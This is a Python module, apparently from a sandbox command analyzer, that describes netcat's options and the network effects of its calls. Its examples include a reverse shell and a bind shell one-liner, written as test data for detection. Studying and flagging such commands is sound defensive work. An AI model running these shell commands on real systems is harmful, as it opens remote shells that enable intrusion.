"""Connects to a port, or opens one, and passes text both ways; the options of all netcats stand in one table."""

from __future__ import annotations

from sandguard.commands.actions import FROM_NETWORK, joined, runs_program, runs_shell_text, writes
from sandguard.commands.effects import Listens, Sends
from sandguard.commands.spec import CommandSpec, Option
from sandguard.values import Known, Unknown

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandguard.commands.spec import Call, Deed


def effects(call: Call) -> Iterator[Deed]:
    """Yield the connection, or the port that is opened; with ``-z`` nothing is sent."""
    words = call.operands
    if call.has("-l"):
        port = call.value("-p") or (words[-1] if words else None)
        yield Listens(call.given("-l")[0].span, port.value if port is not None else Unknown("any port"))
    elif words:
        address = joined((word.value for word in words[:2]), ":")
        yield Sends(words[0].span, address, Known("") if call.has("-z") else Unknown("standard input"))


SPEC = CommandSpec(
    "nc",
    options=(
        Option("-l", "--listen"),
        Option("-p", "--source-port", value="PORT"),
        Option("-e", "--exec", value="PROGRAM", does=runs_program),
        Option("-c", "--sh-exec", value="COMMAND", does=runs_shell_text),
        Option("--lua-exec", value="FILE", does=runs_program),
        Option("-o", "--output", "-x", "--hex-dump", value="FILE", does=writes),
        Option("-z"),
    ),
    flags="-4 -6 -b -C|--crlf -D -d|--detach -F -h|--help -k|--keep-open -N -n|--nodns -r -S -t|--telnet -U|--unixsock"
    " -u|--udp -v|--verbose --broker --chat --ssl --ssl-verify --send-only --recv-only --no-shutdown --append-output",
    values=(
        "-A -B -g -G -H -I -i|--idle-timeout -M|--max-conns -m -O -P|--proxy-auth -q -R -s|--source -T -V -W"
        " -w|--wait -X --proxy --proxy-type --ssl-cert --ssl-key --ssl-trustfile --allow --deny --allowfile"
        " --denyfile --delay"
    ),
    effects=effects,
    input="data",
    output=FROM_NETWORK,
    examples={
        "nc -e /bin/sh 192.0.2.1 4444": ("runs /bin/sh", "sends ? to 192.0.2.1:4444"),
        "nc -lvnp 4444 -c 'sh -i'": ("listens on 4444", "runs sh argument 'sh -i'"),
        "nc example.com 80": ("sends ? to example.com:80", "stdout from network"),
        "nc -zv example.com 22": ("sends to example.com:22",),
    },
    reference="nc(1), netcat-openbsd 1.228; netcat-traditional 1.10; ncat(1), Nmap 7.95",
)
